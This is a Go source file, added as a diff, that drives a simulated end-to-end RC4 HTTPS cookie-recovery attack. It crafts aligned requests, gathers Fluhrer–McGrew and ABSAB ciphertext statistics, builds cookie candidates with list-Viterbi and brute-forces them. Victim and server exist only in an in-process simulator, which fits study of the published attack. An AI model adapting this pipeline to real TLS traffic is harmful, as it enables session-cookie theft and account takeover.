@@ -1,0 +1,137 @@
+// Command cookieattack runs the full §6 HTTPS cookie attack end to end in
+// the in-process simulator: craft the aligned request, make the victim's
+// browser issue many requests over one persistent RC4 TLS connection,
+// collect ciphertext statistics (Fluhrer–McGrew digraphs plus ABSAB
+// differentials against the injected known plaintext), generate the cookie
+// candidate list with the charset-restricted list-Viterbi, and brute-force
+// it against the server.
+package main
+
+import (
+	"flag"
+	"fmt"
+	"math/rand"
+	"os"
+	"time"
+
+	"rc4break/internal/cookieattack"
+	"rc4break/internal/httpmodel"
+	"rc4break/internal/netsim"
+	"rc4break/internal/tlsrec"
+)
+
+func main() {
+	ciphertexts := flag.Uint64("ciphertexts", 9<<27, "request copies to collect (paper: 9 x 2^27 for 94%)")
+	candidates := flag.Int("candidates", 1<<16, "brute-force list depth (paper: 2^23)")
+	secret := flag.String("secret", "Secur3C00kieVal+", "the 16-character secure cookie to recover")
+	mode := flag.String("mode", "model", "collection mode: model (sampled sufficient statistics) | exact (real TLS records; slow beyond ~2^22)")
+	seed := flag.Int64("seed", 7, "simulation seed")
+	flag.Parse()
+
+	if len(*secret) != 16 {
+		fatal(fmt.Errorf("secret must be 16 characters, got %d", len(*secret)))
+	}
+	fmt.Println("[1/4] crafting aligned request (cookie first in header, injected padding after)...")
+	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", *secret, 64)
+	if err != nil {
+		fatal(err)
+	}
+	fmt.Printf("      cookie at offset %d (keystream counter base %d)\n", req.CookieOffset(), counterBase)
+
+	attack, err := cookieattack.New(cookieattack.Config{
+		CookieLen:   16,
+		Offset:      req.CookieOffset(),
+		Plaintext:   req.Marshal(),
+		CounterBase: counterBase,
+		MaxGap:      128,
+		Charset:     httpmodel.CookieCharset(),
+	})
+	if err != nil {
+		fatal(err)
+	}
+	anchors := attack.AnchorsPerPair()
+	fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", minInt(anchors), maxInt(anchors))
+
+	fmt.Printf("[2/4] collecting %d ciphertexts (%s mode; %.1f h of traffic at %d req/s)...\n",
+		*ciphertexts, *mode, float64(*ciphertexts)/netsim.HTTPSRequestsPerSecond/3600,
+		netsim.HTTPSRequestsPerSecond)
+	start := time.Now()
+	switch *mode {
+	case "exact":
+		master := make([]byte, 48)
+		rand.New(rand.NewSource(*seed)).Read(master)
+		victim, err := netsim.NewHTTPSVictim(master, req)
+		if err != nil {
+			fatal(err)
+		}
+		// The victim's records flow through the §6.3 stream scanner, which
+		// reassembles TLS framing and filters the fixed-size requests.
+		collector := &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()}
+		var observeErr error
+		for i := uint64(0); i < *ciphertexts; i++ {
+			rec := victim.SendRequest()
+			if err := collector.Feed(rec, func(body []byte) {
+				if err := attack.ObserveRecord(body); err != nil && observeErr == nil {
+					observeErr = err
+				}
+			}); err != nil {
+				fatal(err)
+			}
+			if observeErr != nil {
+				fatal(observeErr)
+			}
+		}
+		fmt.Printf("      scanner matched %d records, dropped %d other\n",
+			collector.Matched, collector.Other)
+	case "model":
+		rng := rand.New(rand.NewSource(*seed))
+		if err := attack.SimulateStatistics(rng, []byte(*secret), *ciphertexts); err != nil {
+			fatal(err)
+		}
+	default:
+		fatal(fmt.Errorf("unknown mode %q", *mode))
+	}
+	fmt.Printf("      collected in %v\n", time.Since(start).Round(time.Millisecond))
+
+	fmt.Printf("[3/4] generating %d cookie candidates (charset-restricted list-Viterbi)...\n", *candidates)
+	server := &netsim.CookieServer{Secret: []byte(*secret)}
+	start = time.Now()
+	cookie, rank, err := attack.BruteForce(*candidates, server.Check)
+	genTime := time.Since(start)
+	if err != nil {
+		fmt.Printf("      attack failed: %v (try more ciphertexts or a deeper list)\n", err)
+		os.Exit(1)
+	}
+
+	fmt.Printf("[4/4] brute-forced in %v: cookie %q at list position %d (%d server checks, %.1f s at %d checks/s live)\n",
+		genTime.Round(time.Millisecond), cookie, rank, server.Attempts,
+		float64(server.Attempts)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
+	if string(cookie) == *secret {
+		fmt.Println("      recovered cookie matches the secret — attack complete")
+	}
+}
+
+func minInt(xs []int) int {
+	m := xs[0]
+	for _, x := range xs {
+		if x < m {
+			m = x
+		}
+	}
+	return m
+}
+
+func maxInt(xs []int) int {
+	m := xs[0]
+	for _, x := range xs {
+		if x > m {
+			m = x
+		}
+	}
+	return m
+}
+
+func fatal(err error) {
+	fmt.Fprintln(os.Stderr, "cookieattack:", err)
+	os.Exit(1)
+}
